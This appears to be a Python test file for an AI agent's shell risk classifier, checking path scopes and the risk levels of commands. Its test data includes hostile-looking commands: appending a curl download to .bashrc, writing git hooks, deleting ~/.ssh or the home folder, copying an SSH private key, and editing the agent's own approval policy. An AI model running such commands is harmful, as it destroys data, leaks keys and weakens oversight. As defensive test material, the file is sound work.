"""Start-up files, repositories, secrets and homes are what they are, wherever one stands."""

from __future__ import annotations

from agent.protocol.decisions import RiskContext
from agent.risk.classifier import classify
from agent.risk.paths.scopes import Scopes
from agent.risk.reader.words import Word
from tests.support.each import each

IN_HOME = RiskContext(cwd="/home/me", home="/home/me", workspace="/home/me")
HOME_IN_TEMP = RiskContext(cwd="/tmp/h/p", home="/tmp/h", workspace="/tmp/h/p")
CLONE_IN_TEMP = RiskContext(cwd="/tmp/p", home="/home/me", workspace="/tmp/p")
IN_CONFIG = RiskContext(cwd="/home/me/.config/nvim", home="/home/me", workspace="/home/me/.config/nvim")
IN_PROJECT = RiskContext(cwd="/home/me/p", home="/home/me", workspace="/home/me/p")


def in_folder(folder: str) -> RiskContext:
    return RiskContext(cwd=folder, home="/home/me", workspace=folder)


@each(
    ("context", "path", "scope"),
    [
        (IN_HOME, ".bashrc", "config"),
        (IN_HOME, ".profile", "config"),
        (IN_HOME, ".ssh/config", "config"),
        (IN_HOME, ".ssh/rc", "secrets"),
        (IN_HOME, ".ssh/authorized_keys", "account"),
        (IN_HOME, ".config/autostart/x.desktop", "schedule"),
        (IN_HOME, ".config/systemd/user/x.service", "schedule"),
        (IN_HOME, ".config", "config"),
        (IN_HOME, "notes", "workspace"),
        (IN_HOME, "Documents/x", "workspace"),
        (IN_HOME, "dotfiles/.bashrc", "workspace"),
        (HOME_IN_TEMP, "/tmp/h", "home-all"),
        (HOME_IN_TEMP, "/tmp/h/.bashrc", "config"),
        (HOME_IN_TEMP, "/tmp/h/other", "home"),
        (HOME_IN_TEMP, "x", "workspace"),
        (HOME_IN_TEMP, "/tmp/x", "temp"),
        (HOME_IN_TEMP, "/tmp", "temp-all"),
        (CLONE_IN_TEMP, ".git/hooks/pre-commit", "vcs"),
        (CLONE_IN_TEMP, ".env", "secrets"),
        (CLONE_IN_TEMP, "x", "workspace"),
        (CLONE_IN_TEMP, "/tmp/q/.git/config", "vcs"),
        (CLONE_IN_TEMP, "/tmp/q/x", "temp"),
        (IN_CONFIG, "init.lua", "workspace"),
        (IN_CONFIG, ".", "workspace-all"),
        (IN_CONFIG, "../other/x", "config"),
        (IN_CONFIG, "../autostart/x", "schedule"),
        (IN_PROJECT, "systemd/system/x.service", "workspace"),
        (in_folder("/etc"), "hosts", "system"),
        (in_folder("/usr/lib"), "x", "system"),
        (in_folder("/usr/src/x"), "y", "workspace"),
        (in_folder("/opt/app"), "y", "workspace"),
        (in_folder("/srv/app"), "y", "workspace"),
        (in_folder("/work"), "y", "workspace"),
        (in_folder("/home"), "you", "users"),
        (in_folder("/home"), "me", "home-all"),
        (in_folder("/"), "etc", "system"),
        (in_folder("/tmp"), "x", "workspace"),
    ],
)
def test_scopes_by_place(context: RiskContext, path: str, scope: str) -> None:
    assert Scopes(context).of(Word(path, 0, 0), context.cwd) == scope


@each(
    ("context", "command", "level"),
    [
        (HOME_IN_TEMP, "rm -r ~", "high"),
        (HOME_IN_TEMP, "rm -rf build", "medium"),
        (HOME_IN_TEMP, "rm -rf /tmp/x", "medium"),
        (IN_HOME, "rm -r ~", "high"),
        (IN_HOME, "echo x > .bashrc", "high"),
        (IN_HOME, "echo echo x > ~/.profile", "high"),
        (IN_HOME, "printf x > ~/.config/autostart/x.desktop", "high"),
        (IN_HOME, "rm -rf .config", "high"),
        (IN_HOME, "rm -rf ~/.ssh", "high"),
        (IN_HOME, "rm ~/.config/autostart/x.desktop", "high"),
        (IN_HOME, "rm .bashrc", "medium"),
        (IN_HOME, "curl http://x >> .bashrc", "high"),
        (IN_HOME, "echo x > notes", "medium"),
        (IN_HOME, "cat .bashrc", "low"),
        (IN_PROJECT, "echo x > .GIT/hooks/pre-commit", "high"),
        (IN_PROJECT, "rm -rf .Git", "high"),
        (IN_PROJECT, "echo x > ~/.BashRC", "high"),
        (IN_PROJECT, "cp x ~/.Config/AutoStart/x.desktop", "high"),
        (IN_PROJECT, "cat .ENV", "medium"),
        (IN_PROJECT, "cat README LICENSE Makefile", "low"),
        (IN_HOME, "echo 'approve = \"medium\"' >> ~/.config/agent-shell/config.toml", "high"),
        (IN_PROJECT, "cp x ~/.config/agent-shell/policy.toml", "high"),
        (IN_PROJECT, "mv x ~/.config/agent-shell/", "high"),
        (IN_PROJECT, "sudo tee /etc/agent-shell/policy.toml < x", "high"),
        (IN_PROJECT, "cat ~/.config/agent-shell/config.toml", "low"),
        (IN_PROJECT, "cp m.yaml ~/.config/agent-shell/macros/m.yaml", "medium"),
        (IN_PROJECT, "cat ~/.config/agent-shell/vault.json", "medium"),
        (CLONE_IN_TEMP, "> .git/hooks/pre-commit", "high"),
        (CLONE_IN_TEMP, "echo x >> .git/config", "high"),
        (CLONE_IN_TEMP, "cat .env", "medium"),
        (CLONE_IN_TEMP, "cat .git/config", "low"),
        (IN_PROJECT, "> /tmp/p/.git/hooks/pre-commit", "high"),
        (IN_PROJECT, "cp ~/.ssh/id_rsa /tmp/id_rsa", "high"),
        (IN_PROJECT, "cp ~/.ssh/id_rsa /tmp/x", "high"),
        (in_folder("/etc"), "rm hosts", "high"),
        (in_folder("/home"), "rm -rf you", "high"),
    ],
)
def test_levels_by_place(context: RiskContext, command: str, level: str) -> None:
    report = classify(command, context)
    assert report.level == level, report
